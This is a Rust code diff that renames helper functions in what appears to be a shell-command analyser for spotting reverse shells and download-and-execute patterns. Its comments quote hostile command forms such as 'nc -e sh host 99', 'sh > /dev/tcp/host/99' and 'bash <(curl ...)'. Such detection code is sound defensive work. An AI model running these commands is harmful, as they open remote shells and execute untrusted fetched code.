@@ -35,7 +35,7 @@ pub(super) fn look(
     }
     let mut kinds = Kinds::default();
     kinds.pipes(views);
-    kinds.words(views);
+    kinds.read_arguments(views);
     kinds.fed(views, groups, meter);
     kinds.files(views, groups);
     kinds.languages(views);
@@ -94,9 +94,9 @@ impl Kinds {
 
     /// `python3 <(curl ...)`, and shells whose ends are on another machine: `nc -e sh host 99`, `sh > /dev/tcp/host/99`.
     fn remote(&mut self, views: &[View<'_>], groups: &[Redirected]) {
-        let connected = views
-            .iter()
-            .any(|view| SOCKETS.contains(&view.name.as_str()) && !hosts::of(view).is_empty());
+        let connected = views.iter().any(|view| {
+            SOCKETS.contains(&view.name.as_str()) && !hosts::contacted(view).is_empty()
+        });
         let is_socket = |file: &str| file.starts_with("/dev/tcp/") || file.starts_with("/dev/udp/");
         let of_group = groups.iter().any(|(_, file)| is_socket(file));
         for view in views {
@@ -107,7 +107,7 @@ impl Kinds {
             let is_shell = is_shell(&view.name);
             let socket = of_group || view.redirects.iter().any(|(_, file)| is_socket(file));
             let hands_over = SOCKETS.contains(&view.name.as_str())
-                && (view.says(HANDING_OVER) || view.args.iter().any(|arg| says_exec(arg)));
+                && (view.has_argument(HANDING_OVER) || view.args.iter().any(|arg| says_exec(arg)));
             // `sh -i 2>&1 | nc host 99`
             let talks = is_shell && view.feeds() && view.has('i', "") && connected;
             if (is_shell && socket) || hands_over || talks {
@@ -117,7 +117,7 @@ impl Kinds {
     }
 
     /// `eval "$(curl ...)"`, `bash -c "$(...)"`, `bash <(curl ...)`, `sh <<< "$(...)"`.
-    fn words(&mut self, views: &[View<'_>]) {
+    fn read_arguments(&mut self, views: &[View<'_>]) {
         for view in views {
             let own = view.command.words.iter().skip(1).filter(|_| takes_code(view));
             let reads = takes_code(view) || (is_language(&view.name) && runs_input(view));
@@ -154,7 +154,7 @@ impl Kinds {
         let mut fetched = Fetched::default();
         of_groups.take(MOST_FETCHED).for_each(|(kind, file)| fetched.add(kind, &file));
         for view in views {
-            runs_files(view).for_each(|name| self.0.extend(fetched.of(name)));
+            runs_files(view).for_each(|name| self.0.extend(fetched.kinds(name)));
             let Some(kind) = bringing(view) else { continue };
             if DOWNLOADERS.contains(&view.name.as_str()) {
                 hosts::saved(view).iter().for_each(|file| fetched.add(kind, file));
@@ -192,7 +192,7 @@ impl Fetched {
         self.0.entry(file_name(file).to_owned()).or_default().insert(kind);
     }
 
-    fn of(&self, name: &str) -> impl Iterator<Item = &'static str> {
+    fn kinds(&self, name: &str) -> impl Iterator<Item = &'static str> {
         self.0.get(name).into_iter().flatten().copied()
     }
 }
@@ -220,7 +220,7 @@ fn brings(view: &View<'_>) -> Option<&'static str> {
             && operands().len() > 1
             && operands().iter().take(2).any(|verb| verbs.is_empty() || verbs.contains(verb))
     };
-    if (fetches && (hosts::names_another(view) || !hosts::of(view).is_empty()))
+    if (fetches && (hosts::names_another(view) || !hosts::contacted(view).is_empty()))
         || PRINTING.iter().any(prints)
     {
         return Some("downloaded");
@@ -245,7 +245,7 @@ fn loads_input(view: &View<'_>) -> bool {
         && view.feeds()
         && !["-c", "-f", "-e", "--command", "--file", "--execute"]
             .iter()
-            .any(|option| view.says(&[option]))
+            .any(|option| view.has_argument(&[option]))
 }
 
 /// Whether code runs what it reads: `perl -ne 'system($_)'`, `awk '{system($0)}'`.
@@ -337,7 +337,7 @@ const DASH: &[&str] = &["uv", "deno", "bun", "tsx", "ts-node", "npx"];
 fn runs_dash(view: &View<'_>) -> bool {
     // The reader may have lost a dash behind `run`, and without one nothing is run.
     let bare = || view.operands(&[]) == ["run"];
-    DASH.contains(&view.name.as_str()) && (view.says(&["-", "/dev/stdin"]) || bare())
+    DASH.contains(&view.name.as_str()) && (view.has_argument(&["-", "/dev/stdin"]) || bare())
 }
 
 /// The words behind the options with which an interpreter takes code: `python -c "$(curl ...)"`.
